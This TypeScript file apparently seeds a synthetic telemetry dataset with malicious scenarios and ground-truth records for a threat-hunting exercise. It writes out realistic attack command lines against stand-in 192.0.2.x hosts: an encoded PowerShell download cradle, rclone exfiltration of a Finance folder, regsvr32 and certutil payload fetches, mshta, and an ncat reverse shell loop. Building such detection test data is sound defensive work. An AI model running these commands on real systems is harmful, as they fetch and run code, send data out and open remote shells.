import type { Destination } from './catalog.ts';
import { HOUR, MINUTE, type Device, type Process, type World } from './world.ts';

/** One malicious destination as the hunt should find it: which device, process, address and port, and when. */
export interface GroundTruthEntry {
  scenario: string;
  description: string;
  device: string;
  process: string;
  remoteIp: string;
  remotePort: number;
  start: string;
  end: string;
  connections: number;
}

/** Records the connections a scenario makes, and sums them up as ground truth. */
class Recorder {
  readonly entries: GroundTruthEntry[] = [];
  private readonly times = new Map<GroundTruthEntry, number[]>();

  constructor(private readonly world: World) {}

  connect(scenario: string, description: string, process: Process, time: number, ip: string, port: number, protocol: Destination['protocol'] = 'Tcp', action = 'ConnectionSuccess'): void {
    const t = Math.round(time);
    this.world.connect(process, t, { url: '', ips: [ip], ports: [port], protocol }, action);
    let entry = this.entries.find((e) => e.scenario === scenario && e.process === process.exe.file && e.remoteIp === ip && e.remotePort === port);
    if (!entry) {
      entry = { scenario, description, device: process.device.name, process: process.exe.file, remoteIp: ip, remotePort: port, start: '', end: '', connections: 0 };
      this.entries.push(entry);
      this.times.set(entry, []);
    }
    this.times.get(entry)!.push(t);
  }

  finish(): GroundTruthEntry[] {
    for (const [entry, times] of this.times) {
      entry.start = new Date(Math.min(...times)).toISOString();
      entry.end = new Date(Math.max(...times)).toISOString();
      entry.connections = times.length;
    }
    return this.entries;
  }
}

/** The malicious stories, each on its own workstation, all within the last four days (visible to a 7-day lookback). */
export function injectScenarios(world: World): GroundTruthEntry[] {
  const r = world.random;
  const ws = world.workstations;
  const beaconHost = ws.find((d) => d.name.startsWith('ws-0042.'))!;
  const [exfilHost, minerHost, torHost, lolbinHost, shellHost] = r.shuffle(ws.filter((d) => d !== beaconHost));
  const rec = new Recorder(world);
  // Hours before the end of the sample, kept inside the sample when it covers less time.
  const at = (hoursAgo: number) => Math.max(world.end - hoursAgo * HOUR + r.int(0, 2400) * 1000, world.start + 2 * HOUR);
  const desktop = (device: Device, time: number) => {
    const session = world.sessionAt(device, time);
    return { session, t: Math.max(time, session.start + 5 * MINUTE) };
  };

  { // C2 beaconing: a macro document starts hidden PowerShell that calls home every 5 minutes (±10%).
    const what = 'C2 beaconing from hidden PowerShell every 5 minutes with jitter';
    const { session, t } = desktop(beaconHost, at(50));
    const word = world.spawn(beaconHost, 'winword', { parent: session.apps.outlook ?? session.explorer, created: t, commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8F3K2L1Q\\Invoice_November.docm" /o ""' });
    const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://192.0.2.45:8443/news.php')", 'utf16le').toString('base64');
    const ps = world.spawn(beaconHost, 'powershell', { parent: word, created: t + 9000, commandLine: `powershell.exe -nop -w hidden -ep bypass -enc ${payload}` });
    for (let time = t + 20_000; time < world.end - MINUTE; time += 5 * MINUTE * r.between(0.9, 1.1)) {
      rec.connect('c2-beacon', what, ps, time, '192.0.2.45', 8443, 'Tcp', r.chance(0.03) ? 'ConnectionFailed' : 'ConnectionSuccess');
    }
  }

  { // Exfiltration: rclone pushes a finance folder to a rare SFTP server in a 20-minute burst.
    const what = 'Exfiltration burst with rclone to a rare SFTP server';
    const { session, t } = desktop(exfilHost, at(30));
    const cmd = world.spawn(exfilHost, 'cmd', { parent: session.explorer, created: t, commandLine: '"C:\\Windows\\system32\\cmd.exe"' });
    const rclone = world.spawn(exfilHost, 'rclone', { parent: cmd, created: t + 40_000, commandLine: 'rclone.exe copy "C:\\Users\\{user}\\Documents\\Finance" drop:/incoming/q4 --config C:\\Users\\{user}\\AppData\\Local\\Temp\\rc\\rc.conf --transfers 16 --no-check-certificate --ignore-existing -q' });
    for (let time = t + 45_000, n = 0; n < 140; n++, time += r.int(2000, 14_000)) rec.connect('exfiltration', what, rclone, time, '192.0.2.120', 2222);
  }

  { // Coin miner: a scheduled task (under svchost) runs xmrig as SYSTEM; it reconnects to its pool and fails over to a backup pool.
    const what = 'Coin miner (xmrig) talking to a mining pool';
    const t = at(80);
    const miner = world.spawn(minerHost, 'xmrig', { parent: minerHost.netsvcs, created: t, commandLine: '"C:\\ProgramData\\WinSvcHost\\xmrig.exe" -o 192.0.2.200:3333 -o 192.0.2.201:14444 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k --donate-level 1 --cpu-max-threads-hint 75 --background' });
    for (let time = t + 5000; time < world.end - MINUTE; time += r.int(15, 45) * MINUTE) {
      if (r.chance(0.1)) {
        rec.connect('coin-miner', what, miner, time, '192.0.2.200', 3333, 'Tcp', 'ConnectionFailed');
        rec.connect('coin-miner', what, miner, time + 5000, '192.0.2.201', 14444);
      } else {
        rec.connect('coin-miner', what, miner, time, '192.0.2.200', 3333);
      }
    }
  }

  { // Tor: a Tor Browser on the desktop; tor.exe fetches the directory, then keeps its guard relay circuit.
    const what = 'Tor client (Tor Browser) connecting to relays';
    const { session, t } = desktop(torHost, at(60));
    const browser = world.spawn(torHost, 'torBrowser', { parent: session.explorer, created: t, commandLine: '"C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\firefox.exe"' });
    const tor = world.spawn(torHost, 'tor', { parent: browser, created: t + 2000, commandLine: '"C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe" -f "C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc" +__SocksPort 127.0.0.1:9150 +__ControlPort 127.0.0.1:9151' });
    for (let i = 0; i < 3; i++) rec.connect('tor', what, tor, t + 4000 + i * 1500, '192.0.2.151', 9030);
    for (let time = t + 10_000; time < Math.min(t + 150 * MINUTE, world.end); time += r.int(2, 10) * MINUTE) {
      rec.connect('tor', what, tor, time, '192.0.2.150', 9001);
      // The browser talks to tor.exe over the local SOCKS port.
      world.connect(browser, time + 800, { url: '', ips: ['127.0.0.1'], ports: [9150], protocol: 'Tcp' });
    }
  }

  { // LOLBins: a phishing HTA runs regsvr32 (squiblydoo) and certutil to fetch the next stage from one staging server.
    const what = 'Living-off-the-land binaries fetching a payload';
    const { session, t } = desktop(lolbinHost, at(20));
    const mshta = world.spawn(lolbinHost, 'mshta', { parent: session.apps.outlook ?? session.explorer, created: t, commandLine: '"C:\\Windows\\System32\\mshta.exe" http://192.0.2.66:8081/invoice_3471.hta' });
    rec.connect('lolbin', what, mshta, t + 1200, '192.0.2.66', 8081);
    rec.connect('lolbin', what, mshta, t + 3400, '192.0.2.66', 8081);
    const regsvr = world.spawn(lolbinHost, 'regsvr32', { parent: mshta, created: t + 20_000, commandLine: 'regsvr32.exe /s /n /u /i:http://192.0.2.66:8888/stage2.sct scrobj.dll' });
    rec.connect('lolbin', what, regsvr, t + 21_000, '192.0.2.66', 8888);
    rec.connect('lolbin', what, regsvr, t + 23_500, '192.0.2.66', 8888);
    const cmd = world.spawn(lolbinHost, 'cmd', { parent: mshta, created: t + 50_000, commandLine: 'cmd.exe /c certutil.exe -urlcache -split -f http://192.0.2.66:8000/update.bin C:\\Users\\Public\\update.exe' });
    const certutil = world.spawn(lolbinHost, 'certutil', { parent: cmd, created: t + 50_400, commandLine: 'certutil.exe  -urlcache -split -f http://192.0.2.66:8000/update.bin C:\\Users\\Public\\update.exe' });
    rec.connect('lolbin', what, certutil, t + 51_000, '192.0.2.66', 8000);
    rec.connect('lolbin', what, certutil, t + 52_300, '192.0.2.66', 8000);
  }

  { // Reverse shell: a batch loop starts ncat every minute until the listener answers, then again after each session.
    const what = 'Reverse shell with ncat, retried in a loop';
    const { session, t } = desktop(shellHost, at(10));
    const loop = world.spawn(shellHost, 'cmd', { parent: session.explorer, created: t, commandLine: 'cmd.exe /c "for /l %i in (1,0,2) do (C:\\Users\\Public\\ncat.exe 192.0.2.31 31337 -e cmd.exe & timeout /t 60 /nobreak)"' });
    let time = t + 1000;
    for (const outcome of ['ConnectionFailed', 'ConnectionFailed', 'ConnectionFailed', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess']) {
      const ncat = world.spawn(shellHost, 'ncat', { parent: loop, created: time, commandLine: 'C:\\Users\\Public\\ncat.exe 192.0.2.31 31337 -e cmd.exe' });
      rec.connect('reverse-shell', what, ncat, time + 300, '192.0.2.31', 31337, 'Tcp', outcome);
      time += (outcome === 'ConnectionSuccess' ? r.int(10, 30) * MINUTE : 0) + 61_000;
    }
  }

  return rec.finish();
}
